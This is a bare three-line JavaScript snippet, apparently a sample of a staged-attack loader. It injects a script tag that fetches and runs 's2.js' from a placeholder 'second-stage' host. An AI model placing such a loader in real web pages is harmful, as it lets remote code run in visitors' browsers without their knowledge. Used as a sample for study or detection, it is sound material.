var stage = document.createElement("script");
stage.src = "https://cdn.second-stage.example/s2.js";
document.head.appendChild(stage);
